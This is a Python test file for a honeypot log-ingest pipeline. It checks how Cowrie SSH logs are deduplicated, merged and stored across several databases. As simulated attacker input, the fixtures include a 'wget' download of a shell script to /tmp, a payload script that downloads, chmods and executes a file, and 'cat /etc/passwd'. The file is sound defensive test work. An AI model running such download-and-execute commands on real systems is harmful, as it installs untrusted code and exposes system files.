"""Ingest into real databases: idempotency, merging, progress and flags.

Every test runs on SQLite, PostgreSQL and MariaDB through the `engine`
fixture.
"""

from __future__ import annotations

import gzip
import shutil
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa
from sqlalchemy.ext.asyncio import AsyncEngine

from decnet.ingest import store
from decnet.ingest.cowrie import ingest_paths
from decnet.ingest.text import unescape_nul
from decnet.web.db.engine import session_factory, transaction
from decnet.web.db.repository import create_identity, link_observation
from tests.ingest.support import (
    KEX_2018,
    count,
    event,
    features,
    observation,
    rows,
    sessions_of,
    write_log,
)
from tests.ingest.test_ttylog import pasted, typed

IP = "203.0.113.5"
TABLES = {
    "attackers": "ip",
    "attacker_sessions": "id",
    "observation_features": "id",
    "outbox_events": "seq",
    "ingest_files": "id",
}


def attack_log() -> list[dict[str, Any]]:
    """One brute-force-then-download session and a second short session."""
    return [
        event(
            "cowrie.session.connect",
            src_port=40000,
            dst_ip="192.0.2.2",
            dst_port=22,
            protocol="ssh",
            at="2024-04-01T10:00:00Z",
        ),
        event(
            "cowrie.client.version",
            version="b'SSH-2.0-libssh2_1.7.0'",
            at="2024-04-01T10:00:00.1Z",
            **KEX_2018,
        ),
        event(
            "cowrie.login.failed",
            username="root",
            password="admin",
            at="2024-04-01T10:00:01Z",
        ),
        event(
            "cowrie.login.success",
            username="root",
            password="1234",
            at="2024-04-01T10:00:02Z",
        ),
        event(
            "cowrie.command.input",
            input="cd /tmp; wget http://198.51.100.9/x.sh",
            at="2024-04-01T10:00:03Z",
        ),
        event(
            "cowrie.session.file_download",
            url="http://198.51.100.9/x.sh",
            shasum="a" * 64,
            at="2024-04-01T10:00:04Z",
        ),
        event("cowrie.session.closed", duration=5.0, at="2024-04-01T10:00:05Z"),
        event(
            "cowrie.session.connect", session="bbbb00000002", at="2024-04-02T08:00:00Z"
        ),
        event(
            "cowrie.login.failed",
            session="bbbb00000002",
            username="admin",
            password="admin",
            at="2024-04-02T08:00:01Z",
        ),
    ]


async def snapshot(engine: AsyncEngine) -> dict[str, list[dict[str, Any]]]:
    return {table: await rows(engine, table, order) for table, order in TABLES.items()}


async def test_rerun_changes_no_row(engine: AsyncEngine, tmp_path: Path) -> None:
    log = write_log(tmp_path / "cowrie.json", attack_log())
    first = await ingest_paths(engine, [log])
    before = await snapshot(engine)
    second = await ingest_paths(engine, [log])
    assert first.events == 9
    assert second.events == 0
    assert await snapshot(engine) == before


async def test_rotated_and_compressed_file_not_read_again(
    engine: AsyncEngine, tmp_path: Path
) -> None:
    log = write_log(tmp_path / "cowrie.json", attack_log())
    await ingest_paths(engine, [log])
    before = await snapshot(engine)
    with (
        log.open("rb") as source,
        gzip.open(tmp_path / "cowrie.json.1.gz", "wb") as target,
    ):
        shutil.copyfileobj(source, target)
    log.rename(tmp_path / "cowrie.json.2024-04-01")
    report = await ingest_paths(engine, [tmp_path])
    assert report.events == 0
    assert await snapshot(engine) == before


async def test_log_and_its_gzip_copy_read_once(
    engine: AsyncEngine, tmp_path: Path
) -> None:
    log = write_log(tmp_path / "cowrie.json", attack_log())
    with (
        log.open("rb") as source,
        gzip.open(tmp_path / "cowrie.json.1.gz", "wb") as target,
    ):
        shutil.copyfileobj(source, target)
    report = await ingest_paths(engine, [tmp_path])
    assert report.events == 9
    assert (await observation(engine, IP))["event_count"] == 9


async def test_observation_summary(engine: AsyncEngine, tmp_path: Path) -> None:
    await ingest_paths(engine, [write_log(tmp_path / "cowrie.json", attack_log())])
    row = await observation(engine, IP)
    assert row["session_count"] == 2
    assert row["event_count"] == 9
    assert row["credential_count"] == 3
    assert row["login_success_count"] == 1
    assert row["command_count"] == 1
    assert row["client_versions"] == ["SSH-2.0-libssh2_1.7.0"]
    assert row["hassh_hashes"] == ["a7a87fbe86774c2e40cc4a7ea2ab1b3c"]
    assert row["payload_sha256"] == ["a" * 64]
    assert row["c2_endpoints"] == ["198.51.100.9"]
    assert row["services"] == ["ssh"]
    assert row["duration_s_total"] == 5.0
    assert row["identity_id"] is None


async def test_feature_rows_counted_once_per_observation(
    engine: AsyncEngine, tmp_path: Path
) -> None:
    await ingest_paths(engine, [write_log(tmp_path / "cowrie.json", attack_log())])
    found = await rows(engine, "observation_features", "id")
    keys = [(row["kind"], row["value_key"]) for row in found]
    assert len(keys) == len(set(keys))
    admin = [
        r for r in found if r["kind"] == "credential" and r["value"] == "root\x1fadmin"
    ]
    assert admin[0]["occurrences"] == 1


async def test_session_split_across_files_merged(
    engine: AsyncEngine, tmp_path: Path
) -> None:
    day1 = [
        event("cowrie.session.connect", at="2024-04-01T23:59:50Z"),
        event(
            "cowrie.login.success",
            username="root",
            password="x",
            at="2024-04-01T23:59:55Z",
        ),
    ]
    day2 = [
        event("cowrie.command.input", input="uname -a", at="2024-04-02T00:00:05Z"),
        event("cowrie.session.closed", duration=20.0, at="2024-04-02T00:00:10Z"),
    ]
    # The later file first: its session has no connect event yet.
    await ingest_paths(engine, [write_log(tmp_path / "cowrie.json.2024-04-02", day2)])
    await ingest_paths(engine, [write_log(tmp_path / "cowrie.json.2024-04-01", day1)])
    (session,) = await sessions_of(engine, IP)
    assert session["event_count"] == 4
    assert session["connect_key"] == "20240401T235950000000"
    assert (await observation(engine, IP))["session_count"] == 1


async def test_small_batches_give_same_rows(
    engine: AsyncEngine, tmp_path: Path
) -> None:
    await ingest_paths(
        engine, [write_log(tmp_path / "cowrie.json", attack_log())], batch_events=1
    )
    row = await observation(engine, IP)
    assert (row["session_count"], row["event_count"], row["credential_count"]) == (
        2,
        9,
        3,
    )
    (first, _) = await sessions_of(engine, IP)
    assert first["commands"][0]["input"] == "cd /tmp; wget http://198.51.100.9/x.sh"


async def test_same_session_id_on_two_sensors(
    engine: AsyncEngine, tmp_path: Path
) -> None:
    log = [
        event("cowrie.session.connect", sensor="sensor-a", ip="203.0.113.80"),
        event("cowrie.session.connect", sensor="sensor-b", ip="203.0.113.80"),
    ]
    await ingest_paths(engine, [write_log(tmp_path / "cowrie.json", log)])
    assert sorted(s["sensor"] for s in await sessions_of(engine, "203.0.113.80")) == [
        "sensor-a",
        "sensor-b",
    ]


async def test_observed_event_per_changed_observation(
    engine: AsyncEngine, tmp_path: Path
) -> None:
    log = write_log(tmp_path / "cowrie.json", attack_log())
    await ingest_paths(engine, [log])
    events = await rows(engine, "outbox_events", "seq")
    assert [e["subject"] for e in events] == ["attacker.observed"]
    more = write_log(
        tmp_path / "cowrie.json.2",
        [
            event(
                "cowrie.login.failed",
                username="u",
                password="p",
                at="2024-04-03T00:00:00Z",
            )
        ],
    )
    await ingest_paths(engine, [more])
    assert await count(engine, "outbox_events") == 2


async def test_identity_link_survives_ingest(
    engine: AsyncEngine, tmp_path: Path
) -> None:
    await ingest_paths(engine, [write_log(tmp_path / "cowrie.json", attack_log())])
    row = await observation(engine, IP)
    async with transaction(session_factory(engine)) as db:
        identity = await create_identity(db)
        await link_observation(db, row["uuid"], identity.uuid)
    more = write_log(
        tmp_path / "cowrie.json.2",
        [
            event(
                "cowrie.login.failed",
                username="u",
                password="p",
                at="2024-04-03T00:00:00Z",
            )
        ],
    )
    await ingest_paths(engine, [more])
    assert (await observation(engine, IP))["identity_id"] == identity.uuid


async def test_nul_and_control_bytes_round_trip(
    engine: AsyncEngine, tmp_path: Path
) -> None:
    log = [event("cowrie.login.failed", username="admin\x00", password="\u6743\x04\t")]
    await ingest_paths(engine, [write_log(tmp_path / "cowrie.json", log)])
    (session,) = await sessions_of(engine, IP)
    credential = session["credentials"][0]
    assert unescape_nul(credential["username"]) == "admin\x00"
    assert credential["password"] == "\u6743\x04\t"
    values = {v for k, v in await features(engine, IP) if k == "credential"}
    assert {unescape_nul(v) for v in values} == {"admin\x00\x1f\u6743\x04\t"}


async def test_growing_file_resumes_from_offset(
    engine: AsyncEngine, tmp_path: Path
) -> None:
    path = tmp_path / "cowrie.json"
    records = attack_log()
    write_log(path, records[:4])
    await ingest_paths(engine, [path], follow=True)
    with path.open("ab") as handle:
        handle.write(write_log(tmp_path / "tail", records[4:]).read_bytes())
    report = await ingest_paths(engine, [path], follow=True)
    assert report.events == 5
    assert (await observation(engine, IP))["event_count"] == 9


async def test_rotation_then_new_file(engine: AsyncEngine, tmp_path: Path) -> None:
    path = tmp_path / "cowrie.json"
    records = attack_log()
    write_log(path, records[:6])
    await ingest_paths(engine, [tmp_path], follow=True)
    with path.open("ab") as handle:
        handle.write(write_log(tmp_path / "part", records[6:7]).read_bytes())
    path.rename(tmp_path / "cowrie.json.1")
    write_log(path, records[7:])
    report = await ingest_paths(engine, [tmp_path], follow=True)
    assert report.events == 3
    assert (await observation(engine, IP))["event_count"] == 9


async def test_truncated_last_line_read_when_completed(
    engine: AsyncEngine, tmp_path: Path
) -> None:
    path = tmp_path / "cowrie.json"
    records = attack_log()
    full = write_log(tmp_path / "whole", records).read_bytes()
    path.write_bytes(full[:-20])
    first = await ingest_paths(engine, [path])
    assert first.skipped_count == 1
    assert first.skipped[0].line == 9
    assert first.skipped[0].reason.startswith("truncated last line")
    path.write_bytes(full)
    second = await ingest_paths(engine, [path])
    assert second.ok
    assert (await observation(engine, IP))["event_count"] == 9


async def test_nat_gateway_flags(engine: AsyncEngine, tmp_path: Path) -> None:
    banners = [
        "SSH-2.0-Go",
        "SSH-2.0-libssh-0.6.3",
        "SSH-2.0-libssh2_1.7.0",
        "SSH-2.0-ZGrab",
    ]
    log = []
    for index, banner in enumerate(banners):
        at = f"2019-04-12T08:00:0{index}Z"
        session = f"ee000000000{index}"
        log.append(
            event(
                "cowrie.session.connect",
                ip="172.17.0.1",
                session=session,
                dst_ip="172.17.0.2",
                at=at,
            )
        )
        log.append(
            event(
                "cowrie.client.version",
                ip="172.17.0.1",
                session=session,
                version=banner,
                at=at,
            )
        )
    await ingest_paths(engine, [write_log(tmp_path / "cowrie.json", log)])
    row = await observation(engine, "172.17.0.1")
    assert row["is_private"]
    assert row["is_gateway"]
    assert row["multi_stack"]


async def test_one_tool_address_not_multi_stack(
    engine: AsyncEngine, tmp_path: Path
) -> None:
    await ingest_paths(engine, [write_log(tmp_path / "cowrie.json", attack_log())])
    row = await observation(engine, IP)
    assert not (row["is_private"] or row["is_gateway"] or row["multi_stack"])


async def test_keystroke_majority_over_typed_sessions(
    engine: AsyncEngine, tmp_path: Path
) -> None:
    tty = tmp_path / "tty"
    tty.mkdir()
    log = []
    for index, data in enumerate(
        [typed("cat /etc/passwd\r"), typed("uname -a; w\r", gap=0.16), pasted("id\r")]
    ):
        name = f"{index:064x}"
        (tty / name).write_bytes(data)
        log.append(
            event(
                "cowrie.log.closed",
                session=f"cccc0000000{index}",
                ttylog=f"var/lib/cowrie/tty/{name}",
                at=f"2024-04-0{index + 1}T10:00:00Z",
            )
        )
    log.append(
        event(
            "cowrie.log.closed",
            session="cccc00000009",
            ttylog="var/lib/cowrie/tty/absent",
            at="2024-04-05T10:00:00Z",
        )
    )
    report = await ingest_paths(
        engine, [write_log(tmp_path / "cowrie.json", log)], tty_dir=tty
    )
    assert report.warnings["ttylog missing"] == 1
    row = await observation(engine, IP)
    assert row["kd_typed_sessions"] == 2
    assert row["kd_digraph_simhash"] is not None
    kd = [v for k, v in await features(engine, IP) if k == "kd_simhash"]
    assert kd == [row["kd_digraph_simhash"].hex()]


async def test_keystroke_latencies_stored_per_session(
    engine: AsyncEngine, tmp_path: Path
) -> None:
    tty = tmp_path / "tty"
    tty.mkdir()
    name = "d" * 64
    (tty / name).write_bytes(typed("uname -a\r", gap=0.2))
    first = [event("cowrie.log.closed", ttylog=f"var/lib/cowrie/tty/{name}")]
    later = [event("cowrie.session.closed", at="2024-04-01T10:05:00Z")]
    await ingest_paths(engine, [write_log(tmp_path / "a.json", first)], tty_dir=tty)
    await ingest_paths(engine, [write_log(tmp_path / "b.json", later)], tty_dir=tty)
    (session,) = await sessions_of(engine, IP)
    stored = session["state"]["keystroke_latencies_ms"]
    assert stored["letters"] == [200.0] * 4
    assert stored["into_space"] == [200.0]
    assert stored["after_space"] == [200.0]
    assert stored["after_symbol"] == [200.0]
    assert stored["into_enter"] == [200.0]
    assert session["event_count"] == 2


async def test_payload_content_simhash(engine: AsyncEngine, tmp_path: Path) -> None:
    downloads = tmp_path / "downloads"
    downloads.mkdir()
    (downloads / ("a" * 64)).write_bytes(
        b"#!/bin/sh\nwget http://x/y\nchmod +x y\n./y\n"
    )
    await ingest_paths(
        engine,
        [write_log(tmp_path / "cowrie.json", attack_log())],
        downloads_dir=downloads,
    )
    kinds = {k for k, _ in await features(engine, IP)}
    assert "payload_simhash" in kinds


async def test_skipped_lines_keep_good_lines(
    engine: AsyncEngine, tmp_path: Path
) -> None:
    log = [
        *attack_log()[:3],
        b"{not json",
        b'{"eventid": "cowrie.login.failed", "src_ip": "203.0.113.5",'
        b' "session": "aaaa00000001", "timestamp": "2024-04-01T10:00:01.5Z",'
        b' "username": "r\xffoot", "password": "x"}',
        "[1, 2, 3]",
        event("cowrie.session.connect", ip="bogus"),
        *attack_log()[3:],
    ]
    report = await ingest_paths(engine, [write_log(tmp_path / "cowrie.json", log)])
    assert [(s.line, s.reason.split(":")[0]) for s in report.skipped] == [
        (4, "invalid JSON"),
        (6, "JSON value is a list, not an object"),
        (7, "invalid IP address 'bogus'"),
    ]
    assert report.repaired_lines == 1
    assert (await observation(engine, IP))["event_count"] == 10
    usernames = {
        c["username"] for s in await sessions_of(engine, IP) for c in s["credentials"]
    }
    assert "r\\xffoot" in usernames


async def test_oversized_line_skipped(
    engine: AsyncEngine, tmp_path: Path, monkeypatch: Any
) -> None:
    from decnet.ingest import sources

    monkeypatch.setattr(sources, "MAX_LINE_BYTES", 1024)
    log = [event("cowrie.command.input", input="A" * 5000), *attack_log()]
    report = await ingest_paths(engine, [write_log(tmp_path / "cowrie.json", log)])
    assert [(s.line, s.reason) for s in report.skipped] == [
        (1, "line longer than 64 MiB")
    ]
    assert (await observation(engine, IP))["event_count"] == 9


async def test_progress_row_per_file(engine: AsyncEngine, tmp_path: Path) -> None:
    await ingest_paths(engine, [write_log(tmp_path / "cowrie.json", attack_log())])
    (progress,) = await rows(engine, "ingest_files")
    assert (progress["line_count"], progress["event_count"]) == (9, 9)
    async with engine.connect() as conn:
        size = (tmp_path / "cowrie.json").stat().st_size
        stored = (
            await conn.execute(sa.text("SELECT byte_offset FROM ingest_files"))
        ).scalar()
    assert stored == size


async def test_failed_command_without_input_stored_once(
    engine: AsyncEngine, tmp_path: Path
) -> None:
    log = [event("cowrie.command.failed", input="enable")]
    await ingest_paths(engine, [write_log(tmp_path / "cowrie.json", log)])
    (session,) = await sessions_of(engine, IP)
    assert session["commands"] == [
        {"input": "enable", "failed": True, "at": "2024-04-01T10:00:00.000000Z"}
    ]


async def test_truncated_gzip_keeps_earlier_lines(
    engine: AsyncEngine, tmp_path: Path
) -> None:
    whole = gzip.compress(write_log(tmp_path / "plain", attack_log() * 30).read_bytes())
    path = tmp_path / "cowrie.json.1.gz"
    path.write_bytes(whole[: len(whole) // 2])
    report = await ingest_paths(engine, [path])
    assert report.skipped_count == 1
    assert report.skipped[0].reason.startswith("unreadable after this point: EOFError")
    assert report.events > 0


async def _session_statistics(engine: AsyncEngine) -> float:
    """Return pg_class.reltuples of attacker_sessions (-1 before any ANALYZE)."""
    async with engine.connect() as conn:
        result = await conn.execute(
            sa.text(
                "SELECT reltuples FROM pg_class "
                "WHERE oid = 'attacker_sessions'::regclass"
            )
        )
        return float(result.scalar_one())


async def test_large_batch_analyzes_sessions(
    engine: AsyncEngine, tmp_path: Path, monkeypatch: Any
) -> None:
    if engine.dialect.name != "postgresql":
        pytest.skip("planner statistics are refreshed on PostgreSQL only")
    write_log(tmp_path / "cowrie.json", attack_log())
    monkeypatch.setattr(store, "ANALYZE_AFTER_SESSIONS", 2)
    await ingest_paths(engine, [tmp_path])
    assert await _session_statistics(engine) == 2


async def test_small_batch_skips_analyze(engine: AsyncEngine, tmp_path: Path) -> None:
    if engine.dialect.name != "postgresql":
        pytest.skip("planner statistics are refreshed on PostgreSQL only")
    write_log(tmp_path / "cowrie.json", attack_log())
    await ingest_paths(engine, [tmp_path])
    assert await _session_statistics(engine) == -1
